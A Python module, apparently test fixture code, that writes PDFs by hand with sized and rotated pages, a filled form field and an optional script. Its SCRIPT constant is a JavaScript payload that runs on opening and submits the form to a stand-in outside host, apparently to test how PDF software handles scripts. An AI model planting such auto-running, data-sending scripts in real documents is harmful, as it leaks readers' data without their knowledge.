"""PDF written by hand: pages of any size with a word on them, a form's field that is filled in, a script."""

from __future__ import annotations

SCRIPT = "app.alert(1); this.submitForm('https://elsewhere.example/ran')"
_FONT = "/Resources<</Font<</F 1 0 R>>>>"


def pdf_of(*pages: tuple[float, ...], text: str = "Page", field: str = "", script: str = "") -> bytes:
    """Return a PDF. pages: width, height and, where it is turned, by how many degrees; field: what its first page's
    field holds; script: what it runs when it is opened, in a program that does such things."""
    parts = ["<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", "", ""]
    page_numbers = []
    for number, (width, height, *turned) in enumerate(pages, start=1):
        size = max(1.0, min(width, height) / 6)
        shown = f"BT /F {size:g} Tf {width / 10:g} {height / 2:g} Td ({text and f'{text} {number}'}) Tj ET"
        parts.append(f"<</Length {len(shown)}>>stream\n{shown}\nendstream")
        box = f"/MediaBox[0 0 {width:g} {height:g}]/Rotate {turned[0] if turned else 0:g}"
        fields = "/Annots[4 0 R]" if field and number == 1 else ""
        page_numbers.append(len(parts) + 1)
        parts.append(f"<</Type/Page/Parent 2 0 R{box}/Contents {len(parts)} 0 R{_FONT}{fields}>>")
    kids = " ".join(f"{number} 0 R" for number in page_numbers)
    parts[1] = f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}>>"
    catalog = "<</Type/Catalog/Pages 2 0 R"
    if script:
        # What opens a bracket in it closes it: so it needs no escapes.
        catalog += f"/OpenAction<</S/JavaScript/JS({script})>>"
    if field:
        return _with_field(parts, catalog, field)
    parts[2] = f"{catalog}>>"
    return _written(parts)


def _with_field(parts: list[str], catalog: str, field: str) -> bytes:
    """Return it with a field in the place of the fourth object, which moves to the end."""
    shown = f"/Tx BMC BT /F 40 Tf 2 10 Td ({field}) Tj ET EMC"
    moved = len(parts) + 1
    parts = [part.replace("/Contents 4 0 R", f"/Contents {moved} 0 R") for part in parts]
    parts.append(parts[3])
    look = f"<</N {len(parts) + 1} 0 R>>"
    parts[3] = (
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/F 4/Rect[20 100 280 160]/DA(/F 40 Tf 0 g)"
        f"/V({field})/P 5 0 R/AP{look}>>"
    )
    parts.append(
        f"<</Type/XObject/Subtype/Form/BBox[0 0 260 60]{_FONT}/Length {len(shown)}>>stream\n{shown}\nendstream"
    )
    parts[2] = f"{catalog}/AcroForm<</Fields[4 0 R]/DR<</Font<</F 1 0 R>>>>>>>>"
    return _written(parts)


def _written(parts: list[str]) -> bytes:
    made, places = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, part in enumerate(parts, start=1):
        places += b"%010d 00000 n \n" % len(made)
        made += b"%d 0 obj%bendobj\n" % (number, part.encode("latin-1"))
    size = len(parts) + 1
    tail = b"trailer<</Size %d/Root 3 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, len(made))
    return made + b"xref\n0 %d\n" % size + places + tail
